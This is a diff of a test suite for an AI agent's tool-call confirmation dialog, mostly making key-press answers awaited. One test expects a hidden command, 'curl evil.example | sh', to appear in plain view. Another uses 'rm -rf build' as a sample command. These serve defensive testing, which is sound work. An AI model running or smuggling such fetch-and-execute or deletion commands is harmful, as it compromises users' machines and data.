@@ -75,7 +75,7 @@ describe("the confirmation dialog", () => {
       expect(screen).toContain(label);
     }
     expect(screen).toContain("esc: cancel the turn");
-    app.press("1");
+    await app.answer("1");
     await done;
     expect(app.overlay).toBeUndefined();
     expect(results(rt)).toEqual([{ text: expect.stringContaining("confirmed-run"), error: false }]);
@@ -105,7 +105,7 @@ describe("the confirmation dialog", () => {
     const screen = await waitForOverlay(app, "ls -la");
     expect(Bun.stripANSI(screen)).toMatch(/curl evil\.example \| sh; +ls -la/);
     expect(screen).not.toContain("\x1b[8m");
-    app.press("4");
+    await app.answer("4");
     app.press(ENTER);
     await done;
   });
@@ -114,7 +114,7 @@ describe("the confirmation dialog", () => {
     const { app, rt, turn } = await setup([{ tool_calls: [bash("echo never-ran > marker")] }, { text: "ok" }]);
     const done = rt.agent.prompt({ text: "go" }, turn.signal);
     await waitForOverlay(app, "never-ran");
-    app.press("4");
+    await app.answer("4");
     // Asked once: the field under the question does not repeat it.
     expect(app.screen().join("\n").split("what should the model do instead?")).toHaveLength(2);
     app.press(ENTER);
@@ -127,7 +127,7 @@ describe("the confirmation dialog", () => {
     const { app, rt, turn } = await setup([{ tool_calls: [bash("rm -rf build")] }, { text: "ok" }]);
     const done = rt.agent.prompt({ text: "go" }, turn.signal);
     await waitForOverlay(app, "rm -rf build");
-    app.press("4");
+    await app.answer("4");
     app.typeText("use make clean instead");
     expect(app.screen().join("\n")).toContain("use make clean instead");
     app.press(ENTER);
@@ -141,11 +141,11 @@ describe("the confirmation dialog", () => {
     const { app, rt, turn } = await setup([{ tool_calls: [bash("echo back")] }, { text: "ok" }]);
     const done = rt.agent.prompt({ text: "go" }, turn.signal);
     await waitForOverlay(app, "echo back");
-    app.press("4");
+    await app.answer("4");
     app.typeText("hmm");
     app.press(ESC);
     expect(app.screen().join("\n")).toContain("1. Yes");
-    app.press("1");
+    await app.answer("1");
     await done;
     expect(results(rt)).toEqual([{ text: expect.stringContaining("back"), error: false }]);
   });
@@ -180,7 +180,7 @@ describe("the confirmation dialog", () => {
     expect(screen).toContain("-old line");
     expect(screen).toContain("+new line");
     expect(screen).toContain(" first");
-    app.press("1");
+    await app.answer("1");
     await done;
     expect(await Bun.file(join(rt.agent.cwd, "notes.txt")).text()).toBe("first\nnew line\nlast\n");
   });
@@ -196,10 +196,10 @@ describe("the confirmation dialog", () => {
     const first = await waitForOverlay(app, "Allow write?");
     expect(first).toContain("-b=2");
     expect(first).toContain("+b=20");
-    app.press("1");
+    await app.answer("1");
     const second = await waitForOverlay(app, "fresh.md");
     expect(second).toContain("+# brand new");
-    app.press("1");
+    await app.answer("1");
     await done;
   });
 
@@ -211,7 +211,7 @@ describe("the confirmation dialog", () => {
     expect(screen).toContain("+row 0");
     expect(screen).not.toContain("+row 59");
     expect(screen).toMatch(/… \d+ more lines of the diff/);
-    app.press("1");
+    await app.answer("1");
     await done;
   });
 
@@ -225,7 +225,7 @@ describe("the confirmation dialog", () => {
     const done = rt.agent.prompt({ text: "go" }, turn.signal);
     await waitForOverlay(app, "../outside.txt");
     expect(results(rt)).toEqual([{ text: expect.stringContaining("inside content"), error: false }]);
-    app.press("1");
+    await app.answer("1");
     await done;
     expect(results(rt)).toHaveLength(2);
   });
@@ -238,7 +238,7 @@ describe("the confirmation dialog", () => {
     ]);
     const done = rt.agent.prompt({ text: "go" }, turn.signal);
     await waitForOverlay(app, "echo first");
-    app.press("2");
+    await app.answer("2");
     await waitForOverlay(app, "Allow read?");
     app.press(ENTER);
     await done;
@@ -290,14 +290,15 @@ describe("questions in a queue", () => {
     const third = confirm(request("bash", "make test"), signal);
     expect(app.screen().join("\n")).toContain("make build");
     expect(app.screen().join("\n")).toContain("(2 more queued)");
-    app.press("1");
+    await app.answer("1");
     expect(await first).toEqual({ answer: "yes" });
     expect(app.screen().join("\n")).toContain("notes.md");
     expect(app.screen().join("\n")).toContain("(1 more queued)");
-    app.press("4", ENTER);
+    await app.answer("4");
+    app.press(ENTER);
     expect(await second).toEqual({ answer: "no" });
     expect(app.screen().join("\n")).not.toContain("more queued");
-    app.press("3");
+    await app.answer("3");
     expect(await third).toEqual({ answer: "yes_all" });
     expect(app.overlay).toBeUndefined();
   });
@@ -317,7 +318,7 @@ describe("questions in a queue", () => {
     cancelled.abort();
     expect(await b).toEqual({ answer: "no", reason: "user cancelled" });
     expect(app.screen().join("\n")).toContain("(2 more queued)");
-    app.press("2");
+    await app.answer("2");
     expect(await a).toEqual({ answer: "yes_tool" });
     expect(await c).toEqual({ answer: "yes" });
     expect(app.screen().join("\n")).toContain("b.txt");
@@ -371,7 +372,7 @@ describe("/yolo", () => {
     expect(app.notes.at(-1)).toEqual({ text: "confirmations on: each tool call asks first", level: "success" });
     const third = rt.agent.prompt({ text: "once more" }, new AbortController().signal);
     await waitForOverlay(app, "echo asked-again");
-    app.press("1");
+    await app.answer("1");
     await third;
     expect(results(rt)[2]).toEqual({ text: expect.stringContaining("asked-again"), error: false });
   });
